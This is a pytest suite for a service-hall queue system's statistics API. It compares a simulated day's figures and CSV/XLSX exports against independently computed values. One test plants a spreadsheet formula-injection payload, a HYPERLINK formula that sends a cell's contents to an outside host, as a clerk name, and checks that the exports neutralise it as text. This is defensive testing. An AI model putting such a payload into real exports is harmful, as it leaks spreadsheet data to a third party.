"""The statistics of a simulated day, built through the API on a manual clock, against figures the test works out
from its own record of what it did; the CSV and XLSX exports carry the same numbers."""

from __future__ import annotations

import csv
import io
import math
import random
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from typing import Any
from urllib.parse import urlparse

import openpyxl
import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from server.models import CaseRecord, Complaint, ExtendedService, TicketEvent
from server.stats_export import HEADER
from tests.api.quality import RatingHall, err
from tests.conftest import SHANGHAI

DAY = date(2026, 11, 30)
LEVELS = ("very_satisfied", "satisfied", "basic", "dissatisfied", "very_dissatisfied")
POOR = ("dissatisfied", "very_dissatisfied")
REASONS = ("等候时间过长", "服务态度不好", "办事效率低")
CLERKS = {1: "clerk1", 2: "clerk2", 3: "clerk3", 4: "clerk4"}
TABLETS = {1: "rate-1", 2: "rate-2"}  # windows 3 and 4 have none: their residents rate on the phone or not at all
SERVICES = {"id-card": 5, "hukou": 3, "pension": 3}
TRANSFER_TO = {"id-card": "hukou", "hukou": "pension", "pension": "id-card"}
CASES = (({"case": "immediate"}, 8), ({"case": "promised", "working_days": 2}, 2),
         ({"case": "supplement", "materials": ["户口簿", "照片"]}, 1), ({"case": "returned", "reason": "主件缺少"}, 1),
         ({"case": "approval"}, 1))


@dataclass
class Row:
    """One ticket row as the simulation saw it (a transfer starts a new row)."""

    service: str
    issued: datetime
    track: str
    transfer_row: bool = False
    calls: list[tuple[datetime, int, str]] = field(default_factory=list)
    started: datetime | None = None
    finished: tuple[datetime, int, str] | None = None
    rating: str | None = None
    case: tuple[str, int, str, date | None] | None = None
    case_closed: datetime | None = None
    #: the 即办件 call-next (or F5 without a choice) recorded: nobody chose
    default: bool = False
    #: issue 16's columns the test wrote into the case row (extensions, the 报批件 stages, 复核)
    columns: dict[str, Any] = field(default_factory=dict)


@dataclass
class Seat:
    window: int
    client: FlaskClient
    ticket: int | None = None
    state: str = "idle"  # idle, called, serving
    until: datetime | None = None


class Day:
    """The simulated day and its own record: rows, no-shows, transfers, in the order they happened."""

    def __init__(self, rh: RatingHall, seed: int = 7):
        self.rh = rh
        self.rng = random.Random(seed)
        self.rows: dict[int, Row] = {}
        self.no_shows: list[tuple[str, int, str]] = []
        self.transfers: list[tuple[str, int, str]] = []
        self.complaints: list[tuple[date, int | None, str | None, bool | None]] = []
        self.phone = rh.h.app.test_client()
        for window in (3, 4):
            rh.h.hall.accounts.add_user(CLERKS[window], "clerk", f"{CLERKS[window]}-secret-pw",
                                        display_name=f"职员{window}", staff_no=f"100{window}")
        self.seats = [Seat(window, rh.h.staff(CLERKS[window], window=window)) for window in CLERKS]

    @property
    def now(self) -> datetime:
        return self.rh.h.clock.now()

    def issue(self) -> None:
        service = self.rng.choices(list(SERVICES), weights=list(SERVICES.values()))[0]
        ticket = self.rh.take(service)
        self.rows[ticket["id"]] = Row(service, self.now, urlparse(ticket["track_url"]).path)

    def call(self, seat: Seat) -> None:
        answer = seat.client.post(f"/api/windows/{seat.window}/call-next")
        assert answer.status_code == 200, answer.json
        if seat.ticket is not None and seat.state == "serving":  # call-next finished the resident before
            self.finished(seat, {"case": "immediate"}, default=True)
        ticket = answer.json["ticket"]
        seat.ticket, seat.state = (ticket["id"], "called") if ticket else (None, "idle")
        if ticket:
            self.rows[ticket["id"]].calls.append((self.now, seat.window, CLERKS[seat.window]))
            seat.until = self.now + timedelta(seconds=self.rng.randint(20, 120))

    def step(self, seat: Seat) -> None:
        if seat.state == "idle":
            self.call(seat)
        elif seat.until is not None and self.now < seat.until:
            return
        elif seat.state == "called":
            self.after_call(seat)
        elif self.rng.random() < 0.07:
            self.transfer(seat)
        elif self.rng.random() < 0.15:
            self.call(seat)  # the clerk presses 呼叫下一位 straight away: that finishes this resident (即办件)
        else:
            case = self.rng.choices([c for c, _ in CASES], weights=[w for _, w in CASES])[0]
            answer = seat.client.post(f"/api/windows/{seat.window}/finish", json=case)
            assert answer.status_code == 200, answer.json
            self.finished(seat, case)

    def after_call(self, seat: Seat) -> None:
        assert seat.ticket is not None
        roll = self.rng.random()
        if roll < 0.08:
            assert seat.client.post(f"/api/windows/{seat.window}/no-show").status_code == 200
            self.no_shows.append((self.rows[seat.ticket].service, seat.window, CLERKS[seat.window]))
            seat.ticket, seat.state = None, "idle"
            return
        if roll < 0.75:
            assert seat.client.post(f"/api/windows/{seat.window}/start").status_code == 200
            self.rows[seat.ticket].started = self.now
        seat.state = "serving"
        seat.until = self.now + timedelta(seconds=self.rng.randint(60, 900))

    def transfer(self, seat: Seat) -> None:
        assert seat.ticket is not None
        row = self.rows[seat.ticket]
        answer = seat.client.post(f"/api/windows/{seat.window}/transfer", json={"service": TRANSFER_TO[row.service]})
        assert answer.status_code == 200, answer.json
        self.transfers.append((row.service, seat.window, CLERKS[seat.window]))
        self.rows[answer.json["ticket"]["id"]] = Row(TRANSFER_TO[row.service], self.now, row.track, transfer_row=True)
        seat.ticket, seat.state = None, "idle"

    def finished(self, seat: Seat, case: dict[str, Any], default: bool = False) -> None:
        assert seat.ticket is not None
        row = self.rows[seat.ticket]
        row.finished = (self.now, seat.window, CLERKS[seat.window])
        due = None
        if "working_days" in case:
            due = self.rh.h.hall.cases.calendar.add_working_days(DAY, case["working_days"])
        row.case = (case["case"], seat.window, CLERKS[seat.window], due)
        row.default = default
        ticket, seat.ticket, seat.state = seat.ticket, None, "idle"
        if not default:
            self.maybe_rate(ticket, row, seat.window)

    def maybe_rate(self, ticket: int, row: Row, window: int) -> None:
        roll = self.rng.random()
        if roll > 0.8:
            return  # walks away: 未评价 once the prompt times out or the next 办结 at the window closes it
        level = self.rng.choices(LEVELS, weights=(40, 30, 12, 10, 8))[0]
        body: dict[str, Any] = {"level": level}
        if level in POOR:
            body["reason"] = self.rng.choice(REASONS)
        if window in TABLETS and roll < 0.6:
            answer = self.rh.tablet(TABLETS[window]).post(f"/api/rate/{window}", json={"ticket": ticket, **body})
        else:
            answer = self.phone.post(f"{row.track}/rate", json=body)
        assert answer.status_code == 200, answer.json
        row.rating = level

    def run(self) -> None:
        clock = self.rh.h.clock
        clock.set(datetime.combine(DAY, datetime.min.time(), SHANGHAI).replace(hour=8))
        end = clock.now().replace(hour=7)  # 15:00 in Shanghai
        while clock.now() < end:
            if self.rng.random() < 0.42:
                self.issue()
            for seat in self.rng.sample(self.seats, len(self.seats)):
                self.step(seat)
            clock.advance(seconds=30)
            self.rh.h.hall.evaluation.tick()  # what the server's ticker does
        for seat in self.seats:  # the last residents at the windows are finished
            if seat.state != "idle":
                seat.client.post(f"/api/windows/{seat.window}/finish")
                self.finished(seat, {"case": "immediate"}, default=True)
        clock.advance(minutes=5)
        self.rh.h.hall.evaluation.tick()
        for row in self.rows.values():
            if row.finished and row.rating is None:
                row.rating = "unrated"

    def next_days(self) -> None:
        """Tomorrow: some residents rate from home; 承诺件 and 报批件 are completed on time, late or not at all."""
        clock = self.rh.h.clock
        clock.set(datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI))
        unrated = [row for row in self.rows.values() if row.rating == "unrated"]
        for row in unrated[::4]:
            level = self.rng.choice(LEVELS)
            body = {"level": level, **({"reason": REASONS[0]} if level in POOR else {})}
            assert self.phone.post(f"{row.track}/rate", json=body).status_code == 200
            row.rating = level
        admin = self.rh.h.staff("admin")
        open_cases = {c["ticket"]: c for c in admin.get("/api/cases").json["cases"]}
        kept = [row_id for row_id, row in self.rows.items() if row.case and row.case[0] in ("promised", "approval")]
        assert {ticket for ticket, c in open_cases.items() if c["type"] != "supplement"} == set(kept)
        for moment, share in ((datetime(2026, 12, 1, 16, 0, tzinfo=SHANGHAI), kept[0::3]),
                              (datetime(2026, 12, 8, 9, 0, tzinfo=SHANGHAI), kept[1::3])):
            clock.set(moment)
            for row_id in share:
                assert admin.post(f"/api/cases/{open_cases[row_id]['id']}/close").status_code == 200
                self.rows[row_id].case_closed = moment

    def case_stages(self) -> None:
        """What the case code of issue 16 records, written into the case rows: the defaults marked as such,
        承诺件 extended, 报批件 forwarded (on time, late, never) and their 批复, 退回件 whose resident asked for
        复核; and complaints, some upheld, about the clerks of the day (one dated the next day)."""
        afternoon = datetime(2026, 11, 30, 16, 0, tzinfo=SHANGHAI)
        later = datetime(2026, 12, 7, 10, 0, tzinfo=SHANGHAI)
        by_kind: dict[str, list[Row]] = defaultdict(list)
        for row in self.rows.values():
            if row.case:
                by_kind["default" if row.default else row.case[0]].append(row)
        for row in by_kind["default"]:
            row.columns = {"chosen": False}
        for k, row in enumerate(by_kind["promised"]):
            row.columns = {"extensions": k % 3}
        waiting = [row for row in by_kind["approval"] if not row.case_closed]  # never forwarded, on time or late
        for k, row in enumerate(by_kind["approval"]):
            forwarded = ((afternoon, later)[k % 2] if row.case_closed
                         else (None, afternoon, later)[waiting.index(row) % 3])
            row.columns = {"forward_due": date(2026, 12, 2), "forwarded_at": forwarded,
                           "approved_at": forwarded if forwarded and (row.case_closed or k % 2) else None,
                           "answer_due": date(2026, 12, 4)}
        for k, row in enumerate(by_kind["returned"][::2]):
            row.columns = {"review_requested_at": afternoon, "review_due": date(2026, 12, 4),
                           "reviewed_at": (None, afternoon, later)[k % 3]}
        with self.rh.h.hall.storage.write() as session:
            for ticket, row in self.rows.items():
                if row.columns:
                    record = session.scalars(select(CaseRecord).where(CaseRecord.ticket_id == ticket)).one()
                    for name, value in row.columns.items():
                        setattr(record, name, value)
            for k, (window, clerk) in enumerate(((1, "clerk1"), (1, "clerk1"), (2, "clerk2"), (3, "clerk3"),
                                                 (None, None), (4, "clerk4"))):
                day = DAY if k < 5 else date(2026, 12, 1)
                upheld = (True, False, True, None, None, True)[k]
                session.add(Complaint(business_date=day, received_at=afternoon, channel="phone", window_id=window,
                                      clerk=clerk, request="办事慢", due=date(2026, 12, 7), registered_by="guide",
                                      upheld=upheld))
                self.complaints.append((day, window, clerk, upheld))


# ---------------------------------------------------------------- the figures, worked out independently

def deadline(done: datetime | None, due: date, today: date) -> str:
    if done:
        return "on_time" if done.astimezone(SHANGHAI).date() <= due else "late"
    return "overdue" if today > due else "pending"


def median(values: list[float]) -> float:
    ordered = sorted(values)
    middle = len(ordered) // 2
    return ordered[middle] if len(ordered) % 2 else (ordered[middle - 1] + ordered[middle]) / 2


def p90(values: list[float]) -> float:
    ordered = sorted(values)
    return ordered[math.ceil(len(ordered) * 9 / 10) - 1]


class Expected:
    """Per (scope, key): counts and lists, from the simulation's own record."""

    def __init__(self, day: Day, today: date):
        self.groups: dict[tuple[str, Any], dict[str, Any]] = defaultdict(lambda: {
            "issued": 0, "served": 0, "no_show": 0, "transferred": 0, "waits": [], "services": [],
            "ratings": Counter(), "cases": Counter(), "promised": Counter(), "defaults": 0, "forward": Counter(),
            "answer": Counter(), "review": Counter(), "complaints": Counter()})
        for row in day.rows.values():
            if not row.transfer_row:
                for key in (("total", None), ("service", row.service)):
                    self.groups[key]["issued"] += 1
            if row.calls:
                at, window, clerk = row.calls[0]
                for group in self.of(row.service, window, clerk):
                    group["waits"].append((at - row.issued).total_seconds())
            if row.finished:
                at, window, clerk = row.finished
                start = row.started if row.started and row.started >= row.calls[-1][0] else row.calls[-1][0]
                for group in self.of(row.service, window, clerk):
                    group["served"] += 1
                    group["services"].append((at - start).total_seconds())
                    group["ratings"][row.rating] += 1
            if row.case:
                kind, window, clerk, due = row.case
                columns, closed = row.columns, row.case_closed
                outcomes: list[tuple[str, str]] = []
                if kind == "promised":
                    outcomes.append(("promised", deadline(closed, due, today)))
                    if columns["extensions"]:
                        outcomes += [("promised", "extended")] + [("promised", "extensions")] * columns["extensions"]
                elif kind == "approval":
                    outcomes.append(("forward", deadline(columns["forwarded_at"], columns["forward_due"], today)))
                    outcomes.append(("answer", deadline(closed, columns["answer_due"], today)
                                     if columns["approved_at"] or closed else "awaiting"))
                elif columns.get("review_requested_at"):
                    outcomes += [("review", "requested"),
                                 ("review", deadline(columns["reviewed_at"], columns["review_due"], today))]
                for group in self.of(row.service, window, clerk):
                    group["cases"][kind] += 1
                    group["defaults"] += row.default
                    for name, outcome in outcomes:
                        group[name][outcome] += 1
        for complaint_day, window, clerk, upheld in day.complaints:
            if complaint_day == DAY:
                groups = [self.groups[("total", None)]] + [self.groups[key] for key in (("window", window),
                                                                                        ("clerk", clerk)) if key[1]]
                for group in groups:
                    group["complaints"]["received"] += 1
                    group["complaints"]["upheld"] += bool(upheld)
        for name, events in (("no_show", day.no_shows), ("transferred", day.transfers)):
            for service, window, clerk in events:
                for group in self.of(service, window, clerk):
                    group[name] += 1

    def of(self, service: str, window: int, clerk: str) -> list[dict[str, Any]]:
        return [self.groups[key] for key in (("total", None), ("service", service), ("window", window),
                                             ("clerk", clerk))]


def check_group(actual: dict[str, Any], expected: dict[str, Any], per_window: bool) -> None:
    assert actual["issued"] == (None if per_window else expected["issued"])
    for name in ("served", "no_show", "transferred"):
        assert actual[name] == expected[name], (actual["key"], name)
    for name, values in (("waiting", expected["waits"]), ("service_time", expected["services"])):
        summary = actual[name]
        assert summary["n"] == len(values)
        if values:
            assert summary["mean"] == pytest.approx(sum(values) / len(values), abs=0.051)
            assert summary["median"] == pytest.approx(median(values), abs=0.051)
            assert summary["p90"] == pytest.approx(p90(values), abs=0.051)
    ratings = expected["ratings"]
    assert actual["ratings"] == {level: ratings[level] for level in (*LEVELS, "unrated")}
    good = ratings["very_satisfied"] + ratings["satisfied"] + ratings["basic"]  # 基本满意 counts; 未评价 left out
    rated = sum(ratings[level] for level in LEVELS)
    assert actual["satisfaction_rate"] == (pytest.approx(good / rated, abs=5e-5) if rated else None)
    cases = expected["cases"]
    assert actual["cases"] == {kind: cases[kind] for kind in ("immediate", "promised", "supplement", "returned",
                                                              "approval")}
    chosen = sum(cases.values()) - expected["defaults"]  # the defaults stay out of the share (point 5)
    assert (actual["immediate_chosen"], actual["immediate_default"]) == (cases["immediate"] - expected["defaults"],
                                                                         expected["defaults"])
    assert actual["immediate_share"] == (pytest.approx((cases["immediate"] - expected["defaults"]) / chosen,
                                                       abs=5e-5) if chosen else None)
    promised = expected["promised"]
    for outcome in ("on_time", "late", "overdue", "pending", "extended", "extensions"):
        assert actual["promised"][outcome] == promised[outcome], (actual["key"], outcome)
    for stage, counted in (("forward", actual["approval"]["forward"]), ("answer", actual["approval"]["answer"]),
                           ("review", actual["review"])):
        for outcome in ("on_time", "late", "overdue", "pending"):
            assert counted[outcome] == expected[stage][outcome], (actual["key"], stage, outcome)
    assert actual["approval"]["answer"]["awaiting"] == expected["answer"]["awaiting"]
    assert actual["review"]["requested"] == expected["review"]["requested"]
    assert actual["complaints"] == {"received": expected["complaints"]["received"],
                                    "upheld": expected["complaints"]["upheld"]}
    if per_window:  # the default [assessment], worked out from the counts above
        stages = ("promised", "forward", "answer", "review")
        missed = sum(expected[stage][outcome] for stage in stages for outcome in ("late", "overdue"))
        known = missed + sum(expected[stage]["on_time"] for stage in stages)
        rate = round(good / rated, 4) if rated else None
        shortfall = round(max(0.0, 0.98 - rate) * 100, 2) if rate is not None else 0
        late = round(missed / known * 100, 2) if known else 0
        extended = round(promised["extended"] / cases["promised"] * 100, 2) if cases["promised"] else 0
        score = max(0, 100 - 5 * expected["complaints"]["upheld"] - late - extended - shortfall)
        assert actual["assessment"]["score"] == pytest.approx(score, abs=0.006), actual["key"]
    else:
        assert actual["assessment"] is None


# ---------------------------------------------------------------- the test

def add_appointments(rh: RatingHall, some_ticket: int) -> None:
    """What the appointments feature will write (its own issue): rows of their documented shape, written here."""
    rows = [("appointment_checked_in", some_ticket, 1, "id-card", DAY),
            ("appointment_checked_in", None, 2, "id-card", DAY),
            ("appointment_forfeited", None, 3, "id-card", DAY), ("appointment_checked_in", None, 4, "pension", DAY),
            ("appointment_booked", None, 5, "pension", DAY), ("appointment_cancelled", None, 5, "pension", DAY),
            ("appointment_forfeited", None, 6, "hukou", DAY), ("appointment_forfeited", None, 7, "hukou", DAY),
            ("appointment_checked_in", None, 8, "hukou", date(2026, 12, 1))]  # another day: not in the period
    with rh.h.hall.storage.write() as session:
        for action, ticket, appointment, service, day in rows:
            session.add(TicketEvent(ticket_id=ticket, action=action, window_id=None, actor="system",
                                    at=datetime.combine(day, datetime.min.time(), SHANGHAI).replace(hour=9),
                                    detail={"appointment": appointment, "service": service,
                                            "date": day.isoformat()}))
        for name, start, end, served in (("上午", (12, 0), (12, 42), 4), ("下午", (17, 30), (17, 40), 2)):
            session.add(ExtendedService(business_date=DAY, session=name, started_at=datetime(
                2026, 11, 30, *start, tzinfo=SHANGHAI), ended_at=datetime(2026, 11, 30, *end, tzinfo=SHANGHAI),
                waiting_at_start=served, served=served, windows=[1], clerks=["clerk1"], anomalies=[]))


def test_a_simulated_day_gives_the_figures_worked_out_from_what_happened(rating_hall: RatingHall) -> None:
    rh = rating_hall
    rh.h.app.extensions["hallq_ticker"].stop()  # the day runs its own ticks: the server's would race the clock
    day = Day(rh)
    day.run()
    day.next_days()
    day.case_stages()
    rows = day.rows.values()
    assert 250 <= sum(not r.transfer_row for r in rows) <= 400 and day.no_shows and day.transfers
    assert {r.rating for r in rows if r.finished} == {*LEVELS, "unrated"}
    assert {r.case[0] for r in rows if r.case} == {"immediate", "promised", "supplement", "returned", "approval"}
    add_appointments(rh, next(iter(day.rows)))
    admin = rh.h.staff("admin")
    report = admin.get(f"/api/stats?date={DAY}").json
    expected = Expected(day, rh.h.hall.cases.today())

    check_group(report["total"], expected.groups[("total", None)], per_window=False)
    total = report["total"]  # the day has every outcome the figures of issue 16 tell apart
    assert total["immediate_default"] and total["immediate_chosen"] and total["promised"]["extended"]
    assert all(total["approval"]["forward"][outcome] for outcome in ("on_time", "late", "overdue"))
    assert total["review"]["requested"] and total["complaints"]["upheld"]
    assert {g["key"] for g in report["by_service"]} == set(SERVICES)
    for group in report["by_service"]:
        check_group(group, expected.groups[("service", group["key"])], per_window=False)
    assert [g["key"] for g in report["by_window"]] == [1, 2, 3, 4]
    for group in report["by_window"]:
        check_group(group, expected.groups[("window", group["key"])], per_window=True)
    assert [(g["key"], g["name"], g["staff_no"]) for g in report["by_clerk"]] == [
        ("clerk1", "王小红", "1001"), ("clerk3", "职员3", "1003"), ("clerk4", "职员4", "1004"),
        ("clerk2", "clerk2", "")]
    for group in report["by_clerk"]:
        check_group(group, expected.groups[("clerk", group["key"])], per_window=True)
    assert report["by_day"][0]["served"] == report["total"]["served"]
    hours = Counter(r.issued.astimezone(SHANGHAI).hour for r in rows if not r.transfer_row)
    assert report["arrivals_by_hour"] == [hours[hour] for hour in range(24)]
    assert report["total"]["appointments"] == {"checked_in": 2 + 1, "forfeited": 1 + 2, "kept_rate": 0.5}
    kept = {g["key"]: g["appointments"] for g in report["by_service"]}
    assert kept["id-card"]["kept_rate"] == pytest.approx(2 / 3, abs=5e-5) and kept["hukou"]["kept_rate"] == 0
    assert report["by_window"][0]["appointments"] is None
    assert ({k: report["extended"][k] for k in ("days", "sessions", "served", "minutes")}
            == {"days": 1, "sessions": 2, "served": 6, "minutes": 52.0})  # one day, at afternoon and in the evening

    # the same figures for a range: the days after add nothing but the appointment and the complaint dated 12-01,
    # and tomorrow's ratings and case completions stay with the tickets' own day
    week = admin.get(f"/api/stats?from={DAY}&to=2026-12-02").json
    assert week["days"] == 3 and [d["key"] for d in week["by_day"]] == ["2026-11-30", "2026-12-01", "2026-12-02"]
    assert ({**week["total"], "appointments": None, "complaints": None}
            == {**report["total"], "appointments": None, "complaints": None})
    assert week["total"]["complaints"] == {"received": 6, "upheld": 3}
    assert week["total"]["appointments"] == {"checked_in": 4, "forfeited": 3,
                                             "kept_rate": pytest.approx(4 / 7, abs=5e-5)}
    assert admin.get("/api/stats?date=2026-12-01").json["total"]["rated"] == 0
    check_exports(admin, report)


def check_exports(admin: FlaskClient, report: dict[str, Any]) -> None:
    csv_answer = admin.get(f"/api/stats.csv?date={DAY}")
    assert csv_answer.status_code == 200 and csv_answer.mimetype == "text/csv"
    assert "attachment" in csv_answer.headers["Content-Disposition"]
    csv_rows = list(csv.reader(io.StringIO(csv_answer.get_data().decode("utf-8-sig"))))
    xlsx_answer = admin.get(f"/api/stats.xlsx?date={DAY}")
    book = openpyxl.load_workbook(io.BytesIO(xlsx_answer.get_data()))
    xlsx_rows = [["" if cell is None else cell for cell in row] for row in book["统计"].iter_rows(values_only=True)]
    scopes = (("by_day", "日期"), ("by_service", "事项"), ("by_window", "窗口"), ("by_clerk", "工作人员"))
    groups = [("合计", report["total"])] + [(scope, g) for key, scope in scopes for g in report[key]]
    for sheet in (csv_rows, xlsx_rows):
        header = next(i for i, row in enumerate(sheet) if row and row[0] == "范围")
        columns = sheet[header]
        table = {(row[0], str(row[1])): dict(zip(columns, row, strict=False)) for row in sheet[header + 1:]
                 if row and row[0] in ("合计", "日期", "事项", "窗口", "工作人员")}
        assert len(table) == len(groups)
        for scope, group in groups:
            line = table[(scope, str(group["name"]))]

            def number(name: str, line: dict[str, Any] = line) -> float | None:
                return float(line[name]) if line[name] != "" else None

            assert number("办结") == group["served"] and number("过号") == group["no_show"]
            assert number("转移") == group["transferred"] and number("未评价") == group["ratings"]["unrated"]
            assert number("取号") == group["issued"]
            assert number("非常不满意") == group["ratings"]["very_dissatisfied"]
            assert number("报批件") == group["cases"]["approval"]
            assert number("其中默认即办件") == group["immediate_default"]
            assert number("承诺件延期") == group["promised"]["extended"]
            assert number("报批件超期未上报") == group["approval"]["forward"]["overdue"]
            assert number("报批件待批复") == group["approval"]["answer"]["awaiting"]
            assert number("复核按时") == group["review"]["on_time"]
            assert number("投诉属实") == group["complaints"]["upheld"]
            for column, seconds in (("平均等候(分钟)", group["waiting"]["mean"]),
                                    ("办理P90(分钟)", group["service_time"]["p90"])):
                assert number(column) == (None if seconds is None else pytest.approx(seconds / 60, abs=0.006))
            rate = group["satisfaction_rate"]
            assert number("满意率(%)") == (None if rate is None else pytest.approx(rate * 100, abs=0.006))
        extended = {row[0]: float(row[1]) for row in sheet if row and str(row[0]).startswith("延时服务")}
        assert (extended["延时服务天数"], extended["延时服务次数"], extended["延时服务人数"]) == (1, 2, 6)


def test_statistics_are_for_admins_and_a_bad_period_is_refused(rating_hall: RatingHall) -> None:
    rh = rating_hall
    for client in (rh.h.staff("clerk1"), rh.h.staff("guide"), rh.h.kiosk(), rh.tablet()):
        err(client.get(f"/api/stats?date={DAY}"), 403, "forbidden")
        err(client.get(f"/api/stats.csv?date={DAY}"), 403, "forbidden")
    admin = rh.h.staff("admin")
    for query in ("", "date=30.11.2026", "from=2026-12-01&to=2026-11-01", "from=2025-01-01&to=2026-12-01"):
        err(admin.get(f"/api/stats?{query}"), 422, "bad_period")
    empty = admin.get("/api/stats?month=2026-11").json
    assert empty["days"] == 30 and empty["total"]["served"] == 0 and empty["total"]["satisfaction_rate"] is None
    assert empty["total"]["waiting"] == {"n": 0, "mean": None, "median": None, "p90": None}


def test_a_clerk_with_only_finished_tickets_is_listed(rating_hall: RatingHall) -> None:
    """Groups made while pairing events (served, rated) get their names too, not only those of plain events."""
    rh = rating_hall
    clerk = rh.h.staff("clerk1", window=1)
    ticket = rh.take()
    clerk.post("/api/windows/1/call-next")
    clerk.post("/api/windows/1/finish")
    assert rh.tablet().post("/api/rate/1", json={"ticket": ticket["id"], "level": "satisfied"}).status_code == 200
    report = rh.h.staff("admin").get(f"/api/stats?date={DAY}").json
    [group] = report["by_clerk"]
    assert (group["key"], group["name"], group["served"], group["satisfaction_rate"]) == ("clerk1", "王小红", 1, 1.0)


def test_staff_names_in_the_exports_stay_text_never_a_formula(rating_hall: RatingHall) -> None:
    """Issue 14 (4): a display name or 工号 typed as a formula is written as text in stats.xlsx and stats.csv."""
    rh = rating_hall
    name, staff_no = '=HYPERLINK("http://e.cn/"&B6,"x")', "-1+2"
    rh.h.hall.accounts.add_user("clerk1", "clerk", "clerk1-secret-pw", display_name=name, staff_no=staff_no)
    rh.serve(rh.h.staff("clerk1", window=1), 1)
    admin = rh.h.staff("admin")
    sheet = openpyxl.load_workbook(io.BytesIO(admin.get(f"/api/stats.xlsx?date={DAY}").get_data()))["统计"]
    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    [clerk_row] = [row for row in sheet.iter_rows(values_only=True) if row[0] == "工作人员"]
    assert (clerk_row[1], clerk_row[2], clerk_row[HEADER.index("办结")]) == ("'" + name, "'" + staff_no, 1)
    text = admin.get(f"/api/stats.csv?date={DAY}").get_data().decode("utf-8-sig")
    [csv_row] = [row for row in csv.reader(io.StringIO(text)) if row and row[0] == "工作人员"]
    assert (csv_row[1], csv_row[2], csv_row[HEADER.index("办结")]) == ("'" + name, "'" + staff_no, "1")
